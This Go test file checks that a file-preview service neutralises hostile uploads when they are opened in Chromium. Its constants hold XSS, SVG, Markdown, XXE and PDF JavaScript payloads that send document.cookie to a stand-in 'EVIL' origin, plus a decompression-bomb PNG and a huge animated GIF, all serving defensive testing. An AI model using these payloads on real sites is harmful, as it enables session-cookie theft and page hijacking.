package previews_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	encoder "image/png"
	"slices"
	"strings"
	"testing"
)

// Hostile contents try to run scripts, to open other pages and to read the cookie. EVIL is
// another origin, OWN a path on the server's origin.
const (
	hostileScript = `document.title='ran';alert(1);new Image().src='EVIL/image?'+document.cookie;fetch('OWN/fetch?'+document.cookie);` +
		`navigator.sendBeacon('EVIL/beacon',document.cookie);window.open('EVIL/open');location='EVIL/location?'+document.cookie`
	hostileHTML = `<!DOCTYPE html><html><head><base href="EVIL/base/"><meta http-equiv="refresh" content="0;url=EVIL/refresh">` +
		`<link rel="stylesheet" href="EVIL/style.css"><link rel="prefetch" href="EVIL/prefetch"><link rel="preconnect" href="EVIL"><style>@import 'EVIL/import.css';body{background:url(EVIL/background)}</style></head>` +
		`<body onload="` + hostileScript + `"><h1>Hello</h1><img src="EVIL/img" onerror="` + hostileScript + `"><script>` + hostileScript + `</script>` +
		`<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.location='EVIL/srcdoc'</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">` +
		`<video src="EVIL/video" autoplay></video><form id="f" action="EVIL/form" method="post"><input name="x"><button autofocus onfocus="form.submit()">Go</button></form>` +
		`<svg><script>` + hostileScript + `</script><image href="EVIL/svg"/></svg><a href="javascript:` + hostileScript + `" class="click">Click</a></body></html>`
	hostileSVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="` + hostileScript + `">` +
		`<script>` + hostileScript + `</script><image xlink:href="EVIL/image" width="9" height="9"/><use href="EVIL/use#x"/>` +
		`<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/frame"></iframe></foreignObject></svg>`
	hostileMarkdown = "# Hello\n\n<script>" + hostileScript + "</script>\n\n<img src=EVIL/raw onerror=\"" + hostileScript + "\">\n\n![remote](EVIL/image)\n\n" +
		"[script](javascript:" + hostileScript + ") [data](data:text/html,<script>alert(1)</script>) <iframe src=EVIL/frame></iframe>\n\n" +
		"<form action=EVIL/form><button>Go</button></form><meta http-equiv=refresh content=\"0;url=EVIL/refresh\">\n"
	hostileXML = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="EVIL/style.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "EVIL/entity">]>` +
		`<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>` + hostileScript + `</h:script><h:iframe src="EVIL/frame"/>&e;</x>`
)

// hostilePDF returns a PDF that runs a script, opens a link and submits a form when it is
// opened.
func hostilePDF(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	var at []int
	stream := "BT /F1 24 Tf 72 700 Td (Quarterly deck) Tj ET"
	for i, object := range []string{
		"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 6 0 R>>/AcroForm<</Fields[]>>>>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 8 0 R>>>>/AA<</O 7 0 R>>>>",
		fmt.Sprintf("<</Length %d>>stream\n%s\nendstream", len(stream), stream),
		"<</S/JavaScript/JS(app.alert\\('ran'\\); this.submitForm\\('EVIL/submit'\\); app.launchURL\\('EVIL/launch'\\))/Next 7 0 R>>",
		"<</S/SubmitForm/F(EVIL/close)>>",
		"<</S/URI/URI(EVIL/uri)>>",
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
	} {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj%s endobj\n", i+1, object)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, offset := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&b, "trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.String()
}

// hugePNG returns a PNG that declares 50,000 × 50,000 pixels.
func hugePNG() string {
	header := append([]byte("IHDR\x00\x00\xc3\x50\x00\x00\xc3\x50"), 8, 6, 0, 0, 0)
	file := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), header...)
	file = binary.BigEndian.AppendUint32(file, crc32.ChecksumIEEE(header))
	return string(append(file, "\x00\x00\x00\x00IEND\xae\x42\x60\x82"...))
}

// animatedGIF returns a GIF with a number of frames.
func animatedGIF(t *testing.T, frames, width, height int) string {
	t.Helper()
	all := &gif.GIF{}
	for i := range frames {
		frame := image.NewPaletted(image.Rect(0, 0, width, height), color.Palette{color.RGBA{200, 40, byte(i), 255}, color.White})
		all.Image, all.Delay = append(all.Image, frame), append(all.Delay, 1)
	}
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, all); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// gradientPNG returns a PNG with a gradient.
func gradientPNG(t *testing.T, w, h int) string {
	t.Helper()
	im := image.NewRGBA(image.Rect(0, 0, w, h))
	for i := range w * h {
		im.SetRGBA(i%w, i/w, color.RGBA{byte(i % w * 255 / w), byte(i / w * 255 / h), 160, 255})
	}
	var b bytes.Buffer
	if err := encoder.Encode(&b, im); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestHostileContentPRV05 opens every hostile content on every route in Chromium. No script
// runs, nothing is requested and no cookie is read.
func TestHostileContentPRV05(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("starts a browser")
	}
	b := newBrowser(t)
	var visits []visit
	for _, h := range []struct{ name, typ, media, content, query string }{
		{"svg", "image", "image/svg+xml", hostileSVG, ""},
		{"svg-in-a-bundle", "bundle", "image/svg+xml", hostileSVG, ""},
		{"html", "copy", "text/html", hostileHTML, ""},
		{"html-deck", "slide", "text/html", hostileHTML, ""},
		{"html-in-a-bundle", "bundle", "text/html", hostileHTML, ""},
		{"markdown", "blog", "text/markdown", hostileMarkdown, ""},
		{"text", "copy", "text/plain", hostileHTML, ""},
		{"xml", "bundle", "application/xml", hostileXML, ""},
		{"xhtml", "bundle", "application/xhtml+xml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>` + hostileScript + `</script></html>`, ""},
		{"polyglot", "image", "image/png", gradientPNG(t, 300, 200) + hostileHTML, ""},
		{"polyglot-scaled", "image", "image/png", gradientPNG(t, 300, 200) + hostileHTML, "?width=160"},
		{"video", "video", "video/webm", video(t, "spring.webm") + hostileHTML, ""},
		{"pdf", "slide", "application/pdf", hostilePDF(t), ""},
		{"vast", "image", "image/png", hugePNG(), ""},
		{"vast-scaled", "image", "image/png", hugePNG(), "?width=640"},
		{"flicker", "image", "image/gif", animatedGIF(t, 10_000, 8, 8), ""},
		{"flicker-scaled", "image", "image/gif", animatedGIF(t, 10_000, 200, 8), "?width=160"},
	} {
		b.Upload(h.typ, h.media, h.name, []byte(b.arm(h.content)))
		for route, path := range b.routes(h.query) {
			visits = append(visits, visit{Name: h.name + " " + route, Path: path, Click: "a:not([href^='?'])", Plays: h.typ == "video"})
		}
	}
	slices.SortFunc(visits, func(a, b visit) int { return strings.Compare(a.Name, b.Name) })
	visits = append(visits, visit{Name: "control", Path: "/bare/"}) // last, because its requests may arrive late
	b.visit(t, visits, func(v visit, s observation) {
		if v.Name == "control" { // without protection the attack must be noticed
			if len(s.evil) == 0 || len(s.own) == 0 || s.Dialogs == 0 || !strings.Contains(strings.Join(s.own, " "), session) {
				t.Errorf("the attack is not noticed without protection: %+v, %v, %v", s, s.evil, s.own)
			}
			return
		}
		if strings.HasPrefix(v.Name, "pdf ") {
			// The PDF viewer runs scripts of documents in an engine of its own, which
			// no policy of the server affects. All they can do is open a dialog.
			s.Dialogs = max(0, s.Dialogs-1)
		}
		if s.Error != "" || len(s.evil)+len(s.own)+s.Dialogs+s.Popups > 0 {
			t.Errorf("%s: %+v; the other origin received %q, ours %q", v.Name, s, s.evil, s.own)
		}
		for _, request := range s.Requests {
			if !strings.HasPrefix(request, "chrome") && !strings.HasPrefix(request, "blob:chrome-extension:") && request != b.server.URL+v.Path {
				t.Errorf("%s: requested %s", v.Name, request)
			}
		}
		if want := strings.HasPrefix(v.Name, "vast-scaled") && !strings.HasSuffix(v.Name, "content"); want != (s.Status == 415) || !s.Download && s.Status != 200 && !want {
			t.Errorf("%s: status %d, download %v", v.Name, s.Status, s.Download)
		}
	})
}

// TestLinksSendNoRefererPRV07: following a link on a preview does not send the preview's
// address.
func TestLinksSendNoRefererPRV07(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("starts a browser")
	}
	b := newBrowser(t)
	var visits []visit
	for media, content := range map[string]string{"text/markdown": "[go](EVIL/followed)", "text/html": `<a href="EVIL/followed" referrerpolicy="unsafe-url" ping="EVIL/ping">go</a>`} {
		b.Upload("blog", media, "a", []byte(b.arm(content)))
		for route, path := range b.routes("") {
			if route != "content" {
				visits = append(visits, visit{Name: media + " " + route, Path: path, Click: "a:not([href^='?'])", Leaves: true})
			}
		}
	}
	b.visit(t, visits, func(v visit, s observation) {
		if want := []string{`GET /followed from ""`}; !slices.Equal(s.evil, want) || s.Error != "" {
			t.Errorf("%s: the link's target received %q, want %q; %+v", v.Name, s.evil, want, s)
		}
	})
}
